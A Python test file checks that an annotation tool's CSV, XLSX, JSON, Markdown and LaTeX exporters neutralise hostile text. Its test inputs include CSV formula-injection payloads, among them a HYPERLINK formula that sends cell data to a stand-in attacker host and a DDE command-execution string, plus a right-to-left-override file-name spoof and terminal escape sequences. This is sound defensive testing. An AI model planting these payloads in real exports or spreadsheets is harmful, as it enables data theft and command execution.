"""Hostile text through every writer: nothing crashes, nothing runs, nothing is silently lost.

Text reaches the exports from imports (which now refuse control characters),
from older stores and from what people type in the browser (a correction
pasted from a word processor can hold a vertical tab). Every table format and
the JSONL export must write it:

* CSV: a cell a spreadsheet would run as a formula gets a leading ``'``
  (unless ``raw_csv``), plain numbers stay numbers, every other text survives
  a round trip exactly;
* XLSX: no IllegalCharacterError; characters XML cannot hold become a visible
  U+FFFD, every other text survives, formulas stay text;
* JSON and JSONL: exact round trips (control characters escaped);
* Markdown and LaTeX: no raw control characters in the file.
"""

from __future__ import annotations

import csv
import io
import json

import pandas as pd
import pytest
from openpyxl import load_workbook

from annotator.cli import main
from annotator.io.tables import REPLACEMENT, neutralise_formula, write_table, xml_safe

FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1+1",
            "\r=1+1", "=cmd|' /C calc'!A0"]
NUMBERS = ["-0.5", "+3", "-1e-3", "12"]
CONTROLS = ["bell\x07", "esc \x1b[31mred", "vertical\x0btab", "nul\x00byte", "c1 \x9b2J", "del\x7f", "non \ufffe char"]
PLAIN = ["a caption, with \"quotes\" and, commas", "two\nlines", "tab\tinside", "café 東京 🚲", "evil\u202egnp.exe",
         "'already quoted", "#hash", ""]
HOSTILE = FORMULAS + NUMBERS + CONTROLS + PLAIN


def frame() -> pd.DataFrame:
    return pd.DataFrame({"text": HOSTILE, "n": range(len(HOSTILE)), "score": [0.5] * len(HOSTILE)})


def one_caption_project(store, tmp_path, caption: str, reference: str) -> int:
    """Project "p" with one caption of system "s"; returns the caption id."""
    from annotator.io import import_lines
    from annotator.store.projects import captions_of_system, project_id
    caps, refs = tmp_path / "caps.txt", tmp_path / "refs.txt"
    caps.write_text(caption + "\n", encoding="utf-8")
    refs.write_text(reference + "\n", encoding="utf-8")
    import_lines(store, "p", "s", caps, [refs])
    with store.read() as conn:
        return captions_of_system(conn, project_id(conn, "p"), "s")[0].id


def test_formula_neutralising_rule():
    for text in FORMULAS:
        assert neutralise_formula(text) == "'" + text
    for text in NUMBERS + PLAIN:
        assert neutralise_formula(text) == text


@pytest.mark.parametrize("raw", [False, True])
def test_csv_round_trip(raw):
    data = write_table({"=title": frame(), "@other": frame()[["text"]]}, "csv", raw_csv=raw)
    sections = data.decode("utf-8").split("\n\n# ")
    assert sections[0].startswith("# =title\n")  # section lines start with '#': never a formula
    rows = list(csv.reader(io.StringIO(sections[0].split("\n", 1)[1], newline="")))
    assert rows[0] == ["text", "n", "score"]
    texts = [r[0] for r in rows[1:]]
    assert texts == (HOSTILE if raw else [neutralise_formula(t) for t in HOSTILE])
    assert [r[1] for r in rows[1:]] == [str(n) for n in range(len(HOSTILE))]


def test_csv_headers_are_neutralised_too():
    df = pd.DataFrame({"=1+1": ["x"], "ok": [-1.5]})
    rows = list(csv.reader(io.StringIO(write_table(df, "csv").decode("utf-8"))))
    assert rows == [["'=1+1", "ok"], ["x", "-1.5"]]


def test_xlsx_holds_every_text():
    names = {"=sheet\x1b": frame(), "tab\x07": frame()[["text"]]}
    data = write_table(names, "xlsx")  # openpyxl raised IllegalCharacterError here
    wb = load_workbook(io.BytesIO(data))
    assert wb.sheetnames == [xml_safe("=sheet\x1b"), xml_safe("tab\x07")]
    ws = wb.worksheets[0]
    cells = [ws.cell(row=r, column=1) for r in range(2, len(HOSTILE) + 2)]
    assert all(c.data_type == "s" or c.value is None for c in cells)  # formulas stay text
    got = [c.value if c.value is not None else "" for c in cells]
    want = [t.replace("\r", "\n") if t.startswith("\r") else t for t in map(xml_safe, HOSTILE)]
    assert [g.replace("\r", "\n") for g in got] == [w.replace("\r", "\n") for w in want]
    for text, value in zip(HOSTILE, got):
        if text in CONTROLS:
            assert REPLACEMENT in value  # visible, not silently dropped
    assert [ws.cell(row=r, column=2).value for r in range(2, 5)] == [0, 1, 2]


def test_json_round_trip_is_exact():
    assert json.loads(write_table(frame(), "json"))[: len(HOSTILE)] == \
        [{"text": t, "n": n, "score": 0.5} for n, t in enumerate(HOSTILE)]
    lone = pd.DataFrame({"text": pd.Series(["half \ud83d of an emoji"], dtype=object)})  # pandas 3 str cannot hold it
    assert json.loads(write_table(lone, "json")) == [{"text": "half \ud83d of an emoji"}]


@pytest.mark.parametrize("fmt", ["md", "latex"])
def test_markdown_and_latex_hold_no_control_characters(fmt):
    out = write_table(frame(), fmt).decode("utf-8")
    assert not any(c in out for c in "\x00\x07\x0b\x1b\x7f\x9b\ufffe")
    assert "café 東京 🚲" in out


def test_xlsx_and_csv_export_of_a_correction_typed_with_a_vertical_tab(store, tmp_path, capsys):
    """The user's path: a correction saved from the browser holds \\x0b and an '=' at the start; then exported."""
    from annotator.correction import correct_caption
    cid = one_caption_project(store, tmp_path, "a man rides a horse", "a woman rides a horse")
    typed = "=a woman\x0brides a horse"
    correct_caption(store, cid, "gender", "ann", typed, override_reason="pasted", create_role="analyst")

    xlsx = tmp_path / "c.xlsx"
    assert main(["--db", store.url, "corrections", "export", "--project", "p", "--out", str(xlsx)]) == 0
    ws = load_workbook(xlsx).worksheets[0]
    header = [c.value for c in ws[1]]
    assert ws.cell(row=2, column=header.index("corrected_text") + 1).value == xml_safe(typed)

    for flags, expected in (([], "'" + typed), (["--raw-csv"], typed)):
        out = tmp_path / "c.csv"
        assert main(["--db", store.url, "corrections", "export", "--project", "p", "--out", str(out), *flags]) == 0
        rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"), newline="")))
        assert rows[0]["corrected_text"] == expected
    capsys.readouterr()


def test_jsonl_round_trip_of_hostile_but_allowed_text(store, tmp_path, capsys):
    from annotator.io import import_jsonl
    from annotator.store.projects import load_project
    texts = FORMULAS + NUMBERS + [t for t in PLAIN if t]
    src = tmp_path / "in.jsonl"
    src.write_text("".join(json.dumps({"key": f"k{n}", "references": [t], "captions": [{"system": "s", "text": t}]},
                                      ensure_ascii=False) + "\n" for n, t in enumerate(texts)), encoding="utf-8")
    import_jsonl(store, "p", src)
    out = tmp_path / "out.jsonl"
    assert main(["--db", store.url, "export", "--project", "p", "--format", "jsonl", "--output", str(out)]) == 0
    import_jsonl(store, "q", out)
    items = load_project(store, "q").items
    assert [i.captions[0].text for i in items] == texts
    assert [i.references[0].text for i in items] == texts
    capsys.readouterr()


def test_jsonl_export_of_a_stored_control_character(store, tmp_path, capsys):
    """Text stored before imports refused control characters (or typed in the browser) still exports, escaped."""
    from sqlalchemy import update

    from annotator.store.schema import captions
    cid = one_caption_project(store, tmp_path, "a dog", "a dog")
    with store.transaction() as conn:
        conn.execute(update(captions).where(captions.c.id == cid).values(text="a \x1b[2J dog\x0b"))
    out = tmp_path / "out.jsonl"
    assert main(["--db", store.url, "export", "--project", "p", "--format", "jsonl", "--output", str(out)]) == 0
    raw = out.read_text(encoding="utf-8")
    assert "\x1b" not in raw and "\\u001b[2J dog\\u000b" in raw
    capsys.readouterr()
